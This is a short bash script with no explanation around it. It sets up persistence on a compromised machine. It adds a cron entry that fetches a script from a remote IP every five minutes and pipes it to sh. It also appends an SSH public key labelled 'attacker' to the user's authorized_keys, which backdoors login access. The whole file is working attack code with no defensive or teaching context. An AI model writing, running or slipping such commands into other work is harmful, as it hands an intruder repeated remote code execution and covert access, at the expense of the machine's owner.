#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.7/u.sh | sh") | crontab -
mkdir -p ~/.ssh && echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys
